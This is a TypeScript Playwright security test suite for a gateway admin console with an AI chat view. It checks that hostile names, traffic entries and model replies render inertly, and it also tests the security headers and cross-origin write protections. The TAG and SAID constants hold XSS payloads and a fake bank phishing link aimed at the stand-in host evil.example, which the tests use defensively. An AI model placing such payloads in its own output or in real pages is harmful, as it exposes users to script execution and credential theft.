// Words of strangers and of models in a real browser: in every name and description, in requests, in what a model says. Nothing of it runs, nothing
// is fetched from outside, no link goes where it does not say.
import assert from 'node:assert/strict'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, test } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import { admin, type Running, start } from '../e2e/process.ts'
import { launch, noBrowser, say, type Visit, visit } from './browser.ts'

const TAG = '<img src=//evil.example/x onerror=window.hit=1><svg/onload=window.hit=1>'
const SAID = `Look: ![picture](https://evil.example/a.png?key=1) <img src="https://evil.example/b.png" onerror="window.hit=1">
<script>window.hit=1</script> <iframe src="https://evil.example"></iframe>
[run](javascript:window.hit=1) [data](data:text/html,<script>window.hit=1</script>) [vb](vbscript:x) <javascript:window.hit=1>
[your bank](https://evil.example/login?key=1) | a |
|--|
| ${TAG} |`

let browser: Browser
let running: Running
let owner: Visit
let model: http.Server
const foreign: string[] = []

before(async () => {
  if (noBrowser) return
  model = http.createServer((request, response) => {
    request.resume()
    const delta = { role: 'assistant', content: SAID }
    const chunk = {
      id: 'x',
      object: 'chat.completion.chunk',
      created: 0,
      model: 'm',
      choices: [{ index: 0, delta, finish_reason: 'stop' }],
    }
    response.writeHead(200, { 'Content-Type': 'text/event-stream' })
    response.end(`data: ${JSON.stringify(chunk)}\n\ndata: [DONE]\n\n`)
  })
  await new Promise<void>((resolve) => model.listen(0, '127.0.0.1', resolve))
  browser = await launch()
  running = await start({
    env: {
      GATEWARD_MODEL_PROVIDER: 'openai-compatible',
      GATEWARD_MODEL_NAME: 'm',
      GATEWARD_MODEL_BASE_URL: `http://127.0.0.1:${(model.address() as AddressInfo).port}/v1`,
    },
  })
  const upstream = { nodes: { '127.0.0.1:1': 1 }, type: 'roundrobin' }
  await put('/global_rules/1', { plugins: { prometheus: {} } })
  await put('/upstreams/u', { ...upstream, name: TAG.slice(0, 100), desc: TAG })
  await put('/services/s', { name: TAG.slice(0, 100), desc: TAG, upstream_id: 'u' })
  await put('/consumers/c', { username: 'c', desc: TAG, labels: { a: '<b>' }, plugins: { 'key-auth': { key: TAG } } })
  await put('/consumers/c/credentials/x', { desc: TAG, plugins: { 'basic-auth': { username: TAG, password: TAG } } })
  await put('/plugin_configs/p', { desc: TAG, plugins: { echo: { body: TAG } } })
  await put('/protos/1', { desc: TAG, content: `syntax = "proto3"; message X {} // ${TAG}` })
  await put('/routes/r', {
    name: TAG.slice(0, 100),
    desc: TAG,
    uri: `/${TAG.replaceAll(' ', '+')}`,
    plugins: {
      echo: { body: TAG, headers: { 'X-A': TAG } },
      'response-rewrite': { headers: { set: { 'X-B': TAG } } },
    },
    upstream_id: 'u',
  })
  const address = /http:\/\/localhost:\d+\/\?ticket=\S+/.exec(running.output())?.[0] as string
  owner = await visit(browser, address)
  owner.page.on('request', (request) => {
    if (!request.url().startsWith(new URL(owner.page.url()).origin) && !request.url().startsWith('data:'))
      foreign.push(request.url())
  })
  owner.page.on('dialog', (dialog) => {
    foreign.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
})

after(async () => {
  await browser?.close()
  await running?.stop()
  model?.close()
  model?.closeAllConnections()
})

async function put(path: string, body: object): Promise<void> {
  const { status, body: answer } = await admin(running, 'PUT', path, body)
  assert.ok(status < 300, `${path}: ${status} ${JSON.stringify(answer)}`)
}

async function nothingHappened(page: Page): Promise<void> {
  assert.equal(await page.evaluate(() => (globalThis as { hit?: number }).hit), undefined, 'no script of others ran')
  assert.deepEqual(foreign, [])
  assert.deepEqual(owner.complaints, [])
}

test('names, descriptions, paths and plugin values in every view', { skip: noBrowser }, async () => {
  const { page } = owner
  const views = [
    'gateway',
    'gateway/findings',
    'gateway/routes',
    'gateway/routes/r',
    'gateway/services',
    'gateway/services/s',
  ]
  const more = [
    'upstreams',
    'upstreams/u',
    'consumers',
    'consumers/c',
    'credentials/c%2Fx',
    'plugin_configs/p',
    'protos/1',
    '+/routes',
  ]
  for (const view of [...views, ...more.map((one) => `gateway/${one}`), 'targets', 'history', 'settings', 'chat']) {
    await page.goto(new URL(`/#/${view}`, page.url()).href)
    await page.locator('main h1, main h2').first().waitFor()
    await page.waitForLoadState('networkidle')
    await nothingHappened(page)
  }
  await page.goto(new URL('/#/gateway/routes/r', page.url()).href)
  await page.getByRole('button', { name: 'echo', exact: true }).click()
  await page.getByRole('region', { name: 'Plugin echo' }).getByLabel('body', { exact: true }).waitFor()
  await page.getByRole('button', { name: 'Delete' }).click()
  await page.getByRole('button', { name: 'Reject' }).click()
  await nothingHappened(page)
})

test('requests of strangers in the live tail', { skip: noBrowser }, async () => {
  const { page } = owner
  const one = { at: 1, status: 200, ms: 1, bytes: 1, method: TAG, host: TAG, path: TAG }
  const seen = { requests: [{ ...one, route: TAG, consumer: TAG, upstream: TAG }], leftOut: 0 }
  await page.route('**/traffic/tail', (route) =>
    route.fulfill({ contentType: 'text/event-stream', body: `data: ${JSON.stringify(seen)}\n\n` }),
  )
  await page.goto(new URL('/#/traffic', page.url()).href)
  const live = page.getByRole('region', { name: 'Live requests' })
  await live.getByRole('button', { name: 'Watch' }).click()
  await live.getByRole('cell', { name: 'onerror' }).first().waitFor()
  await nothingHappened(page)
  await live.getByRole('button', { name: 'Pause' }).click()
  await page.unrouteAll()
})

test('what a model says: no pictures, no frames, no scripts, and links that say where they go', {
  skip: noBrowser,
}, async () => {
  const { page } = owner
  await page.goto(new URL('/#/chat', page.url()).href)
  await say(page, TAG)
  const answer = page.locator('.answer').first()
  await answer.getByText('your bank').waitFor()
  assert.equal(await page.locator('.log img, .log iframe, .log script, .log svg[onload]').count(), 0)
  const targets = await answer.locator('a').evaluateAll((links) => links.map((one) => one.getAttribute('href') ?? ''))
  assert.deepEqual(
    targets.filter((one) => !/^(?:https?:|mailto:|#|$)/.test(one)),
    [],
  )
  await answer.getByText('(evil.example)').waitFor()
  await nothingHappened(page)
  await page.reload()
  await answer.getByText('your bank').waitFor()
  await nothingHappened(page)
})

test('the page is locked down: policy, frames, types; the session cookie is out of reach of scripts', {
  skip: noBrowser,
}, async () => {
  const { page, context } = owner
  const response = await page.request.get(new URL('/', page.url()).href)
  const policy = response.headers()['content-security-policy'] ?? ''
  assert.ok(!/unsafe-|https?:|\*/.test(policy), policy)
  for (const part of [
    "default-src 'none'",
    "frame-ancestors 'none'",
    "base-uri 'none'",
    "require-trusted-types-for 'script'",
  ])
    assert.ok(policy.includes(part), part)
  assert.equal(response.headers()['cross-origin-opener-policy'], 'same-origin')
  const [cookie, ...others] = await context.cookies()
  assert.equal(others.length, 0)
  assert.deepEqual([cookie?.httpOnly, cookie?.sameSite, cookie?.path], [true, 'Strict', '/'])
  assert.equal(
    await page.evaluate(() => (globalThis as unknown as { document: { cookie: string } }).document.cookie),
    '',
  )
  const state = await page.request.get(new URL('/v1/console/state', page.url()).href)
  assert.equal(state.headers()['cache-control'], 'no-store')
  assert.equal(state.headers()['x-content-type-options'], 'nosniff')
})

test('a page of another program on this machine can do nothing with the session', { skip: noBrowser }, async () => {
  const { context } = owner
  const [cookie] = await context.cookies()
  const headers = { Cookie: `${cookie?.name}=${cookie?.value}`, 'Content-Type': 'text/plain' }
  const writes = [
    ['POST', '/v1/operations/plan'],
    ['POST', '/v1/operations/apply'],
    ['POST', '/v1/plans/x'],
    ['POST', '/v1/tickets'],
    ['POST', '/v1/chat'],
    ['POST', '/v1/chats/x/say'],
    ['POST', '/v1/chats/x/stop'],
    ['PATCH', '/v1/chats/x'],
    ['DELETE', '/v1/chats/x'],
    ['POST', '/v1/console/demo'],
    ['POST', '/v1/console/send'],
    ['PUT', '/v1/console/model'],
    ['POST', '/v1/console/model/test'],
    ['POST', '/mcp'],
  ] as const
  for (const origin of ['http://localhost:3000', 'http://127.0.0.1:1', 'https://evil.example', 'null'])
    for (const [method, path] of writes) {
      const response = await fetch(running.surface + path, {
        method,
        body: '{}',
        headers: { ...headers, Origin: origin },
      })
      assert.equal(response.status, 403, `${origin} ${method} ${path}`)
    }
})
